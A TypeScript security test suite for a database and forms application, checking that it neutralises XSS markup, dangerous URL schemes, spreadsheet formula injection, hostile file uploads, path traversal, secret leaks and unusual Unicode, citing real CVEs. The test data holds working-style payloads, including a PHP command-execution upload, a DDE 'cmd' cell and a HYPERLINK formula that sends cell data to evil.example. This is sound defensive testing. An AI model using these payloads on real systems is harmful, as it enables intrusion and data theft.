/** Classes X1–X4, S2, S3 and S5 of the catalogue, and fault F28: what people type and upload is shown as what it is, and no key is told on. */
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { cookieOf } from '@/lib/api/testing/client'
import { ownerSql, run } from '@/lib/db/connection'
import { joinSql, param, qualified, sql } from '@/lib/db/sql'
import { call, field, stored, value } from '@/lib/expr/ast'
import { openedAgo } from '@/lib/forms/testing/forms'
import { bearing, done, get, made, people, post, tasks, told } from './asking'
import { openStage, type Stage } from './stage'

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.close())

const records = `${people}/records`

describe('X1 markup in text (NocoDB CVE-2026-28398, CVE-2026-28401, CVE-2023-49781; DOMPurify CVE-2024-45801; SurveyJS CVE-2024-28635)', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '"><iframe src=javascript:alert(1)>',
    '[x](javascript:alert(1))',
    'URI::(javascript:alert(1))',
    '{{constructor.constructor("alert(1)")()}}',
    '</title><script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ]
  test.each(payloads)('%s is stored and answered as text, never as a page', async (text) => {
    const id = await made(stage.a, 'people', { name: text, note: text, owner: stage.people.s.userId })
    await done(stage.a.ask('PATCH', `${people}/fields/note`, { body: { help: { en: text } } }))
    for (const one of [
      get(`${records}/${id}`),
      get(`${records}/${id}/history`),
      get(people),
      get(`${people}/pick`, { q: text }),
      get(records, { where: `name = "${text.replaceAll('"', '""')}"` }),
      get(records, { sort: text }),
      get(`/bases/hr/tables/${encodeURIComponent(text)}`),
    ]) {
      const { headers, status, body } = await stage.s.ask(one.method, one.path)
      expect(headers['content-type'], one.path).toBe('application/json; charset=utf-8')
      if (status === 200 && one.path.endsWith(id)) expect((body.fields as { name: string }).name).toBe(text)
      // What was asked for wrongly is not said back.
      if (status >= 400) expect(JSON.stringify(body)).not.toContain('alert')
    }
    await done(stage.a.ask('DELETE', `${records}/${id}`))
  })
})

describe('X2 addresses (Grist CVE-2024-56357; SurveyJS CVE-2024-36043)', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://a.example/x',
    '//evil.example',
    '/\\evil.example',
    'https:\\\\evil.example',
    'https://bank.example@evil.example',
    'https://evil.example\u2044x',
    'ftp://a.example',
    'tel:1',
  ])('%j is no web address, or becomes a plain one', async (site) => {
    const answer = await stage.a.ask('POST', records, { body: { fields: { name: 'x2', site } } })
    if (answer.status === 201) {
      const kept = (answer.body.fields as { site: string }).site
      expect(new URL(kept).protocol).toMatch(/^https?:$/)
      expect(new URL(kept).username).toBe('')
    } else expect([answer.status, answer.body.error?.code]).toEqual([422, 'VALUE_INVALID'])
  })
  test.each([
    'a@b.example,c@d.example',
    'a@b.example\r\nBcc: c@d.example',
    'javascript:alert(1)//@b.example',
    'a@b.example?bcc=c@d.example',
  ])('%j is no e-mail address', async (mail) => {
    const answer = await stage.a.ask('POST', records, { body: { fields: { name: 'x2', mail } } })
    expect([answer.status, answer.body.error?.code]).toEqual([422, 'VALUE_INVALID'])
  })
})

describe('X4 spreadsheet formulas (CWE-1236; SuiteCRM CVE-2021-45041)', () => {
  const cells = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"x")',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '\t=1',
    '=1,=2;=3',
    '"=1',
  ]
  /** The cells of a line, as a spreadsheet reads it. */
  const read = (line: string): string[] =>
    [...line.matchAll(/("(?:[^"]|"")*"|[^",]*)(?:,|$)/g)]
      .slice(0, -1)
      .map(([, cell = '']) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell))
  const begins = /^[=+\-@\t\r＝＋－＠]/
  test.each(cells)('%j runs in no cell', async (text) => {
    const id = await made(stage.a, 'people', {
      name: text,
      note: text,
      owner: stage.people.s.userId,
      hours: -5,
      boss: stage.ids.own,
    })
    const linked = await made(stage.a, 'people', { name: 'x4', boss: id, owner: stage.people.s.userId })
    const { text: file } = await stage.s.ask('POST', `${people}/export`, {
      body: { ids: [id, linked], fields: ['name', 'note', 'hours', 'boss', 'owner', 'phone'] },
    })
    const rows = file.trim().split('\r\n').slice(1).map(read)
    expect(rows.flat().filter((cell) => begins.test(cell) && !/^-\d+$/.test(cell))).toEqual([])
    expect(rows.flat()).toContain('-5')
    for (const row of [id, linked]) await done(stage.a.ask('DELETE', `${records}/${row}`))
  })
  test('nor do an option, a file, a person, a label, or a choice of several', async () => {
    const evil = '=1+1'
    const options = [{ value: 'o', label: { en: evil, 'zh-CN': evil }, color: 'gray' }]
    const add = async (type: string, more: object = {}) =>
      String(
        (
          await done(
            stage.a.ask('POST', `${people}/fields`, {
              body: { label: { en: evil, 'zh-CN': evil }, type, ...more },
            }),
          )
        ).key,
      )
    const [one, several, files] = [
      await add('select', { options: { options } }),
      await add('multiselect', { options: { options } }),
      await add('attachment'),
    ]
    const file = await done(
      stage.a.ask('POST', `/bases/hr/files?name=${encodeURIComponent(evil)}`, { body: 'x' }),
    )
    await done(stage.a.ask('PATCH', '/session', { body: { name: evil } }))
    const id = await made(stage.a, 'people', {
      name: 'x',
      owner: stage.people.a.userId,
      [one]: 'o',
      [several]: ['o'],
      [files]: [{ id: file.id, name: evil }],
    })
    const fields = ['owner', one, several, files]
    const { text } = await stage.a.ask('POST', `${people}/export`, { body: { ids: [id], fields } })
    const rows = text
      .trim()
      .split('\r\n')
      .map((line) => read(line.replace('\ufeff', '')))
    expect(rows.flat().filter((cell) => begins.test(cell))).toEqual([])
    for (const key of fields.slice(1)) await done(stage.a.ask('DELETE', `${people}/fields/${key}`))
  })
})

describe('S2, S3 files (n8n CVE-2026-21858; EspoCRM CVE-2023-5965; SuiteCRM CVE-2023-6130, CVE-2024-36415; Directus CVE-2026-39942)', () => {
  const address = () => `/forms/${stage.link}`
  test.each([
    'a.php',
    'a.html',
    'a.svg',
    'a.png.exe',
    'a.htaccess',
    'con',
    'nul.txt',
    'a.jsp;.png',
    '.env',
    'web.config',
  ])('a stranger’s %s lies under an id of ours, and leaves to be saved only', async (name) => {
    const { ticket } = await openedAgo(stage.p, address())
    const query = new URLSearchParams({ name, ticket })
    const { status, body } = await stage.p.ask('POST', `${address()}/files?${query}`, {
      body: '<?php system("id") ?>',
    })
    expect(status).toBe(201)
    const stored = readdirSync(join(process.env.DATA_DIR!, 'files'), { recursive: true, encoding: 'utf8' })
    expect(stored.filter((path) => path.includes(name) || /\.(?!part)/.test(path))).toEqual([])
    // Not the uploader, not a member, nobody opens what no record holds.
    for (const client of [stage.p, stage.s, stage.a])
      expect((await client.ask('GET', `/bases/hr/files/${body.id}`)).status).toBeGreaterThanOrEqual(401)
  })
  test('a file is counted while it comes: one byte too many, and nothing stays', async () => {
    const { ticket } = await openedAgo(stage.p, address())
    const query = new URLSearchParams({ name: 'a.txt', ticket })
    const count = () =>
      readdirSync(join(process.env.DATA_DIR!, 'files'), { recursive: true, withFileTypes: true }).filter(
        (one) => one.isFile(),
      ).length
    const before = count()
    expect(
      (await stage.p.ask('POST', `${address()}/files?${query}`, { body: 'x'.repeat(100_001) })).status,
    ).toBe(413)
    expect(count()).toBe(before)
    expect(
      (await stage.p.ask('POST', `${address()}/files?${query}`, { body: 'x'.repeat(100_000) })).status,
    ).toBe(201)
    // A member's too, at the limit of all files.
    const after = count()
    const large = { body: 'x'.repeat(25 * 1024 * 1024 + 1) }
    expect((await stage.s.ask('POST', '/bases/hr/files?name=a.txt', large)).status).toBe(413)
    expect(count()).toBe(after)
  })
  test('what is said of a file in JSON is no file', async () => {
    for (const photo of [
      [{ filepath: '/etc/passwd' }],
      [{ id: '../../secrets.json', name: 'x' }],
      [{ id: '/etc/passwd', name: 'x' }],
      [{ id: stage.ids.photo, name: 'x', path: '/etc/passwd', type: 'text/html' }],
      '/etc/passwd',
      { files: [{ filepath: '/etc/passwd' }] },
    ]) {
      const answer = await stage.s.ask('POST', records, { body: { fields: { name: 'x', photo } } })
      expect(answer.status, JSON.stringify(photo)).toBe(422)
    }
  })
})

describe('S5 keys told on (Directus CVE-2024-28238, CVE-2024-47822; Strapi CVE-2024-34065; Valtimo CVE-2024-34706)', () => {
  test('no key, cookie, ticket or password is in an answer, a log line or a row', async () => {
    const logged: string[] = []
    const spies = (['log', 'info', 'warn', 'error', 'debug'] as const).map((name) =>
      vi.spyOn(console, name).mockImplementation((...words) => void logged.push(words.map(String).join(' '))),
    )
    const key = String(
      (await done(stage.s.ask('POST', '/bases/hr/tokens', { body: { label: 's5', role: 'staff', days: 1 } })))
        .key,
    )
    const cookie = await cookieOf(stage.people.s)
    const { ticket } = await openedAgo(stage.p, `/forms/${stage.link}`)
    const password = 'canary-of-a-password-77'
    const program = bearing(key)
    const said: string[] = []
    for (const one of [
      get(records),
      get(records, { sort: 'nothing' }),
      get('/bases/none'),
      get(`${records}/none`),
      post(`${people}/export`, { fields: ['name'] }),
      post(records, { fields: { name: 'x', hours: 'x' } }),
      post('/session/password', { current: password, next: password }),
      post('/account/reset', { token: key, password }),
      post('/account/forgot', { email: 'a@example.org' }),
    ])
      for (const client of [program, stage.p])
        said.push(
          await told(client, {
            ...one,
            ask: { ...one.ask, headers: { cookie, referer: `http://x/?token=${key}` } },
          }),
        )
    said.push(
      await told(stage.p, post(`/forms/${stage.link}`, { ticket, answers: { name: 5 } })),
      await told(stage.s, post('/session/password', { current: password, next: 'x' })),
    )
    expect((await stage.p.ask('GET', `${records}?access_token=${key}`)).status).not.toBe(200)
    expect((await stage.p.ask('GET', records, { headers: { 'x-api-key': key, token: key } })).status).toBe(
      401,
    )
    // An error that nobody foresaw: the log has its text under a number, the answer has the number.
    await run(ownerSql(), sql`alter table hr.people rename to people_away`)
    try {
      for (const client of [program, stage.s]) {
        const { status, body, text } = await client.ask('GET', records, { headers: { cookie } })
        expect([status, body.error?.code]).toEqual([500, 'INTERNAL'])
        expect(text).not.toMatch(/select|relation|people|42P01|\.ts|at /)
        const [id = 'none'] = /[0-9a-f]{8}/.exec(text) ?? []
        expect(logged.filter((line) => line.includes(id))).toHaveLength(1)
        said.push(text)
      }
    } finally {
      await run(ownerSql(), sql`alter table hr.people_away rename to people`)
    }
    // A base keeps of a stranger's address a hash that only we can make.
    const address = '198.51.100.77'
    const sent = { body: { ticket, answers: { name: 's5' } }, headers: { 'x-client-address': address } }
    expect((await stage.p.ask('POST', `/forms/${stage.link}`, sent)).status).toBe(200)
    const tables = await run<{ schema: string; name: string }>(
      ownerSql(),
      sql`select schemaname as schema, tablename as name from pg_tables where schemaname in ('tian', 'hr')`,
    )
    const rows = await run<{ schema: string; row: string }>(
      ownerSql(),
      joinSql(
        tables.map(
          ({ schema, name }) =>
            sql`select ${param(schema)} as schema, t::text as row from ${qualified(schema, name)} t`,
        ),
        sql` union all `,
      ),
    )
    for (const spy of spies) spy.mockRestore()
    const everything = [...said, ...logged, ...rows.map((r) => r.row)].join('\n')
    const value = cookie.slice(cookie.indexOf('=') + 1)
    for (const secret of [key, key.slice(10), value, password]) expect(everything).not.toContain(secret)
    expect(rows.map((r) => r.row).join('\n')).not.toContain(ticket)
    const ofBase = rows.filter((r) => r.schema === 'hr').map((r) => r.row)
    expect(ofBase.join()).toContain('s5')
    expect(ofBase.filter((row) => row.includes(address))).toEqual([])
  })
})

describe('characters that no text can hold, or that hide (F28)', () => {
  const where = (name: string) => [
    post(records, { fields: { name } }),
    post(records, { fields: { name: 'x', note: name } }),
    post(`${records}/${stage.ids.own}`, { set: { name } }, 'PATCH'),
    get(records, { where: `name = ${JSON.stringify(name)}` }),
    post(`${people}/query`, { filter: stored(call('contains', field('name'), value(name))) }),
    get(`${people}/pick`, { q: name }),
    get('/bases/hr/people', { q: name }),
    post('/bases/hr/tokens', { label: name, role: 'admin', days: 1 }),
    post('/session', { name }, 'PATCH'),
    post(`${people}/formula`, { text: `"${name}"`, purpose: 'formula', locale: 'en' }),
    post(`${tasks}/query`, { fields: [name] }),
  ]
  test.each([
    ['NUL', 'a\u0000b'],
    ['an escape', 'a\u001bb'],
    ['a noncharacter', 'a\uffffb'],
    ['a bell', 'a\u0007b'],
    ['a BOM', '\ufeffa'],
    ['a turned text', 'a\u202eb'],
    ['zero width', 'a\u200bb'],
    ['an emoji family', '👨‍👩‍👧‍👦'],
    ['a combining tower', `z${'\u0351'.repeat(40)}`],
    ['Arabic', 'مرحبا'],
    ['a line separator', 'a\u2028b'],
  ])('%s makes no error of ours', async (_, name) => {
    for (const one of where(name)) expect(await told(stage.a, one), one.path).toMatch(/^[24]/)
  })
  test.each(['👨‍👩‍👧‍👦', 'مرحبا', '𠮷野家', 'e\u0301', '\u{1F1E8}\u{1F1F3}', 'ﷺ'])(
    '%s comes back as it was',
    async (name) => {
      const id = await made(stage.a, 'people', { name })
      const got = (await done(stage.a.ask('GET', `${records}/${id}`))).fields as { name: string }
      expect(got.name.normalize('NFC')).toBe(name.normalize('NFC'))
      expect(
        await told(stage.a, get(records, { where: `name = ${JSON.stringify(name)}`, fields: 'name' })),
      ).toContain(id)
      expect(await told(stage.a, post(`${people}/export`, { ids: [id], fields: ['name'] }))).toContain(
        got.name,
      )
    },
  )
  test('half a character is refused wherever JSON is read', async () => {
    for (const half of ['\\ud800', '\\udc00'])
      for (const path of [records, `${people}/query`, `${people}/formula`]) {
        const answer = await stage.a.ask('POST', path, { body: `{"fields":{"name":"${half}"}}` })
        expect(answer.body.error?.code).toBe('BODY_INVALID')
      }
    expect(await run(ownerSql(), sql`select ${param('still here')} as x`)).toEqual([{ x: 'still here' }])
  })
})
